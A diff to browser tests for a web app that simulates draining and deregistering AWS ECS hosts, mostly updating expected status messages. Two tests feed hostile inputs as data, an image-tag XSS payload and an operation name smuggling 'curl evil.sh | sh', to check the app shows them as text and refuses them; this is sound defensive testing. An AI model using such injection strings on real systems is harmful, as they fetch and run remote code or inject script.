@@ -24,7 +24,7 @@ test('a cluster is there at once: hosts by zone, with what they carry', { skip }
 test('a host is drained: its tasks go, others come, and it can be deregistered', { skip }, () =>
   withPage({}, async (page) => {
     const id = await drainHostOf(page, 'web');
-    await said(page, 'UpdateContainerInstancesState was done.');
+    await said(page, `UpdateContainerInstancesState of i-…${id.slice(-6)}, status DRAINING: done.`);
     assert.match(await host(page, id).getAttribute('aria-label'), /DRAINING/);
     await page.getByRole('heading', { name: 'What does the drain wait for?' }).waitFor();
     for (let turn = 0; turn < 6; turn += 1) await minute(page);
@@ -33,7 +33,7 @@ test('a host is drained: its tasks go, others come, and it can be deregistered',
     await page.getByText('For nothing: no task is left that it would move.').waitFor();
     await host(page, id).getByText('Actions').click();
     await host(page, id).getByRole('button', { name: 'Deregister', exact: true }).click();
-    await said(page, 'DeregisterContainerInstance was done.');
+    await said(page, /^DeregisterContainerInstance.*: done\.$/);
   }));
 
 test('what ECS refuses is told in its words', { skip }, () =>
@@ -41,7 +41,7 @@ test('what ECS refuses is told in its words', { skip }, () =>
     const first = page.getByRole('article', { name: /^Host i-/ }).first();
     await first.getByText('Actions').click();
     await first.getByRole('button', { name: 'Deregister', exact: true }).click();
-    await said(page, 'DeregisterContainerInstance was refused. InvalidParameterException: Found running tasks on the instance.');
+    await said(page, /^DeregisterContainerInstance of i-….{6}: refused\. InvalidParameterException: Found running tasks on the instance\./);
   }));
 
 test('a drain that is stuck says why, and a change frees it', { skip }, () =>
@@ -52,7 +52,7 @@ test('a drain that is stuck says why, and a change frees it', { skip }, () =>
     await why.getByRole('article').getByText('desired 1, floor 1 (50 % rounded up), ceiling 1 (150 % rounded down), healthy 1, live 1: neither stop nor start is allowed').waitFor();
     await why.getByText('tried in a fork: it helps').first().waitFor();
     await why.getByRole('button', { name: 'set maximumPercent of api to 200: a replacement may start first', exact: true }).click();
-    await said(page, 'UpdateService was done.');
+    await said(page, /^UpdateService.*: done\.$/);
     for (let turn = 0; turn < 6; turn += 1) await minute(page);
     assert.equal(await host(page, id).getByText(/^api, /).count(), 0);
     assert.equal(await page.getByText('api, RUNNING', { exact: true }).count(), 1);
@@ -131,7 +131,7 @@ test('a service has one colour everywhere, also when another comes that is named
       { kind: 'call', operation: 'RunTask', request: { cluster: 'harbour', taskDefinition: 'aardvark' } },
     ]));
     await page.getByRole('button', { name: 'Do it' }).click();
-    await said(page, 'RunTask was done.');
+    await said(page, /^RunTask.*: done\.$/);
     const badge = await colour(page.getByRole('row', { name: /web/ }).locator('.cargo'));
     assert.notEqual(badge, before);
     const tasks = await page.getByRole('button', { name: 'web, RUNNING' }).all();
@@ -153,7 +153,7 @@ test('a whole drain by keyboard', { skip }, () =>
     await page.keyboard.press('Enter');
     await tabTo('Drain');
     await page.keyboard.press('Enter');
-    await said(page, 'UpdateContainerInstancesState was done.');
+    await said(page, /^UpdateContainerInstancesState.*: done\.$/);
     // The focus is where the menu is opened: the button that was pressed is gone.
     assert.match(await focused(), /^Actions for host i-/);
     await tabTo('One minute on', 'Shift+Tab');
@@ -235,33 +235,33 @@ for (const [what, [address, words]] of Object.entries({
     withPage({ hash: address }, async (page) => {
       await page.getByText(words).waitFor();
       await drainHostOf(page, 'web');
-      await said(page, 'UpdateContainerInstancesState was done.');
+      await said(page, /^UpdateContainerInstancesState.*: done\.$/);
     }));
 }
 
 test('script in a link is text', { skip }, () =>
   withPage({ hash: linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'call', operation: '<img src=x onerror=alert(1)>', request: {} } }] }) }, async (page) => {
-    await said(page, '<img src=x onerror=alert(1)> was refused. UnknownOperationException');
+    await said(page, '<img src=x onerror=alert(1)>: refused. UnknownOperationException');
     assert.equal(await page.locator('main img').count(), 0);
   }));
 
 /** Commands that nobody would give, as a link may hold them, and what is shown of them. */
 const ODD = {
   'no operation': [{ kind: 'call' }, '{"kind":"call"}'],
-  'an object for a family': [{ kind: 'workload', family: { toString: 1 } }, '{"kind":"workload","family":{"toString":1}}'],
+  'an object for a family': [{ kind: 'workload', family: { toString: 1 } }, 'Change what containers do'],
   'code for an operation': [{ kind: 'call', operation: 'ListTasks; curl evil.sh | sh #' }, 'ListTasks; curl evil.sh | sh #'],
 };
 
 for (const [what, [command, words]] of Object.entries(ODD)) {
   test(`a link with ${what} is refused in words, shown as JSON, and the page goes on`, { skip }, () =>
     withPage({ hash: linkOf({ ...GOOD, commands: [{ atMs: 0, command }] }) }, async (page) => {
-      await said(page, `${words} was refused.`);
+      await said(page, `${words}: refused.`);
       await page.getByText('The same as code, and the answer').click();
       await page.getByRole('heading', { name: 'A command, as JSON' }).waitFor();
       assert.deepEqual(JSON.parse(await page.locator('.code pre').first().textContent()), command);
       assert.equal(await page.getByRole('heading', { name: 'AWS CLI' }).count(), 0);
       await drainHostOf(page, 'web');
-      await said(page, 'UpdateContainerInstancesState was done.');
+      await said(page, /^UpdateContainerInstancesState.*: done\.$/);
     }));
 }
 
